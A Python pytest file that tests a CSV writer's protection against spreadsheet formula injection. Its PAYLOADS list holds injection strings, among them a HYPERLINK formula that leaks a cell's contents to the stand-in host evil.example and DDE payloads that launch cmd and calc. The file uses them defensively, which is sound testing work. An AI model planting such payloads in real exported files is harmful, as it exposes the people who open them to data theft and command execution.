"""everhash/lib/csvsafe.py: the cells a spreadsheet would run as formulas come out as text."""

from __future__ import annotations

import csv
import io

import pytest

from everhash.lib.csvsafe import SafeWriter, neutralise

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_start_a_formula_is_read_back_as_text(payload):
    buffer = io.StringIO()
    SafeWriter(buffer).writerow(["file.jpg", payload, 3])
    [row] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["file.jpg", "'" + payload, "3"]


def test_plain_text_numbers_and_separators_stay_as_they_are():
    buffer = io.StringIO()
    SafeWriter(buffer).writerow(['a, b; "c"', "Amy ✨", 42, -1, "x=1"])
    [row] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ['a, b; "c"', "Amy ✨", "42", "-1", "x=1"]
    assert buffer.getvalue().startswith('"a, b; ""c""",')
    assert neutralise(-1) == -1
